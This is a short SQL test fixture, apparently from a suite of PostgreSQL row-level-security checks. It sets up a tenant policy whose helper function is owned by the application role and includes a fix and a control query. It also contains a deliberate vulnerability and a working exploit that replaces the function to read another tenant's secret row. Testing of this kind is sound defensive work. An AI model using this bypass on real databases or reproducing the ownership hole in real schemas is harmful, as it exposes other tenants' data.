-- What: The helper that the policies call belongs to the application's role, which may replace it.
-- Class: role_owns_function
-- Object: public.current_tenant()
-- Exploit: CREATE OR REPLACE FUNCTION, as its owner.
-- @superuser
create function current_tenant() returns text language sql stable as $$ select current_setting('app.tenant_id', true) $$;
alter function current_tenant() owner to app_user;
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_tenant());
grant select, insert, update, delete on items to app_user;
grant create on schema public to app_user;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
alter function current_tenant() owner to app_owner;
revoke create on schema public from app_user;
-- @control
select from items where tenant_id = :'A';
-- @exploit
create or replace function current_tenant() returns text language sql stable as $$ select 'bbbbbbbb-0000-4000-8000-000000000002' $$;
select body from items where body = 'B-secret';
